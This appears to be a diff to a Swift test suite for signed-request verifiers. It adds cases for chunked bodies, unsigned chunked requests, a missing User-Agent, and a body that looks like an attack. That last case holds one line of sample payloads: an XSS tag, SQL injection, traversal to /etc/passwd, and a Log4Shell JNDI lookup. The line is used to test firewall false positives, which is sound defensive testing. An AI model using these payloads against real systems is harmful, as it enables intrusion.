@@ -92,6 +92,16 @@ extension TransportFamily {
             ) { $0.framing = .chunked(size: size) }
         } + [
             Case(
+                "transport/chunked-inside-characters", .should, .transport, .medium, covers: ["D17", "D22"],
+                cwe: [172, 436], needs: [.json], changes: .framing,
+                "A valid request is accepted in chunks that end inside characters.",
+                why:
+                    "An endpoint that decodes each piece of the body by itself destroys the characters that two pieces "
+                    + "share, and computes a different signature.",
+                fix: "Collect the body as bytes, and decode it when it is complete.", expect: .accepted,
+                control: { $0.say("署名 サイン 서명 👍🏽") }
+            ) { $0.framing = .chunked(size: 5) },
+            Case(
                 "transport/chunked-with-signature-of-nothing", .must, .rawBody, .high, covers: ["D17"],
                 cwe: [345, 444],
                 needs: [.signedBody], changes: [.framing, .message, .signature],
@@ -103,6 +113,15 @@ extension TransportFamily {
             ) { draft in
                 draft.framing = .chunked(size: 16)
                 draft.signBody(as: [])
+            },
+            Case(
+                "transport/chunked-unsigned", .must, .presence, .critical, covers: ["A15", "D17"], cwe: [306, 444],
+                changes: [.framing, .signature], "An unsigned chunked request is rejected.",
+                why: "A verifier that skips requests without a declared length verifies nothing that comes in chunks.",
+                fix: "Read the body to its end, then verify it, however it is framed.", expect: .rejected
+            ) { draft in
+                draft.framing = .chunked(size: 16)
+                draft.dropSignature()
             },
             Case(
                 "transport/chunked-with-signature-of-first-chunk", .must, .rawBody, .high, covers: ["D17"],
@@ -160,6 +179,22 @@ extension TransportFamily {
                 request.headers.append("Content-Length", Array(String(request.body.count).utf8))
             }
         },
+    ]
+
+    /// What something between sender and endpoint may reject before the endpoint sees it.
+    static let filtered: [Case] = [
+        Case(
+            "transport/no-user-agent", .may, .transport, .info, covers: ["K11"], cwe: [436], changes: .headers,
+            "A valid request without a User-Agent is accepted.",
+            why: "Firewalls reject requests without a User-Agent, and some senders have none.",
+            fix: "Exempt the path of the endpoint from the filter. The signature is the check.", expect: .accepted
+        ) { draft in draft.onTheWire { $0.headers.remove("User-Agent") } },
+        Case(
+            "transport/text-like-an-attack", .may, .transport, .info, covers: ["K11"], cwe: [436], needs: [.json],
+            changes: .signedBody, "A valid request whose text looks like an attack is accepted.",
+            why: "Firewalls reject texts that people write about code, and the sender sees a rejected signature.",
+            fix: "Exempt the path of the endpoint from the filter. The signature is the check.", expect: .accepted
+        ) { $0.say("<script>alert(1)</script> ' OR 1=1 -- ../../etc/passwd ${jndi:ldap://example.invalid/a}") },
     ]
 
     private static let expectations: [Case] = [
